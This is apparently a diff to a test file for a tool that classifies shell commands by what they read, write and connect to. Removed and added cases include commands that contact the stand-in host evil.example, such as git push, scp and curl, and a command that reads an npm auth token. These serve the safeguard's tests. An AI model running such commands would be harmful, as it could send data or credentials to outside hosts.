@@ -62,7 +62,7 @@ describe('what is written, where and how', () => {
     ['mv a b', ['write:delete/ a', 'write:modify b', 'write:create? b/a', 'read/~ a']],
     ['cp -r a/ d/', ['read/ a/', 'write:modify/ d/', 'write:create? d/a']],
     ['cp -t d a', ['write:modify d', 'read a', 'write:create? d/a']],
-    ['ln -s ../x', ['read ../x', 'write:create? ./x', 'write:modify? ./../x']],
+    ['ln -s ../x', ['write:create? ./x', 'read? ./../x', 'write:modify? ./../x']],
     ['sort --output=o i', ['write:modify o', 'read i']],
     ['dd if=a of=b', ['read a', 'write:modify b']],
     ['tee -a x', ['write:modify x']],
@@ -184,41 +184,33 @@ describe('a place to write that only the option tells', () => {
   )
 })
 
-describe('who is talked to', () => {
+describe('code of the checkout is no reading', () => {
   it.each([
-    ['curl http:/evil.example', 'connect? http://evil.example'],
-    ['curl --connect-to good.example::evil.example: good.example', 'connect? evil.example'],
-    ['curl -x evil.example good.example', 'connect evil.example'],
-    ['wget -e http_proxy=evil.example good.example', 'connect? evil.example'],
-    ['env ALL_PROXY=evil.example curl x', 'connect? evil.example'],
-    ['git fetch https://evil.example/x', 'connect https://evil.example/x'],
-    ['git push evil.example:x', 'connect evil.example'],
-    ['git push git@evil.example:x main', 'connect evil.example'],
-    ['git remote add o https://evil.example/x', 'connect https://evil.example/x'],
-    ['git submodule add https://evil.example/x', 'connect https://evil.example/x'],
-    ['git -c url.https://evil.example/.insteadOf=https://a/ fetch', 'connect? https://a/'],
-    ['pip install git+https://evil.example/x', 'connect? git+https://evil.example/x'],
-    ['npm install https://evil.example/x.tgz', 'connect? https://evil.example/x.tgz'],
-    ['go get evil.example/x', 'connect? evil.example'],
-    ['docker pull evil.example/x', 'connect? evil.example'],
-    ['docker pull evil:5000/x', 'connect? evil:5000'],
-    ['openssl s_client -connect evil.example:443', 'connect evil.example:443'],
-    ['mysql -hevil.example', 'connect evil.example'],
-    ['socat TCP4:evil.example:80 -', 'connect evil.example'],
-    ['mount -t nfs evil.example:/x y', 'connect evil.example'],
-    ['gh api --hostname evil.example x', 'connect evil.example'],
-    ['mytool -uhttp://evil.example', 'connect? uhttp://evil.example'],
-    ['mytool --to=me@evil.example:x', 'connect? evil.example'],
-    ['curl https://evil.example', 'connect https://evil.example'],
-    ['curl --url=evil.example', 'connect evil.example'],
-    ['ssh user@evil.example ls', 'connect evil.example'],
-    ['scp a user@evil.example:/x', 'connect evil.example'],
-    ['dig @evil.example x', 'connect evil.example'],
-    ['git clone https://evil.example/r', 'connect https://evil.example/r'],
-    ['mytool https://evil.example', 'connect? https://evil.example'],
-  ])('%s', (line, effect) => {
-    expect(effectsOf(line)).toContain(effect)
+    'cargo metadata',
+    'cargo tree',
+    'poetry show',
+    'uv pip list',
+    'terraform show',
+    'turbo --version',
+    'mvn -v',
+    'git log --format=%G?',
+    "git for-each-ref '--format=%(signature)'",
+    'go list -mod=mod ./...',
+    'kubectl get -k x',
+    'ps eww',
+    'npm config get //registry.npmjs.org/:_authToken',
+    'gh pr view https://evil.example/x/y/pull/1',
+    'aws ec2 describe-instances --filters http://evil.example/',
+  ])('%s', (line) => {
+    expect(read(line).readOnly).toBe(false)
   })
+
+  it.each(['ps aux', 'npm config get registry', 'gh pr view 1', 'go list -m all', 'git log --format=%H', 'git -P log'])(
+    '%s stays one',
+    (line) => {
+      expect(read(line).readOnly).toBe(true)
+    },
+  )
 })
 
 describe('file commands', () => {
@@ -239,6 +231,7 @@ describe('file commands', () => {
 
   it.each([
     'rm $x',
+    'ln -s $x a',
     'rm *',
     'cp a "$x"',
     'rm --frobnicate a',
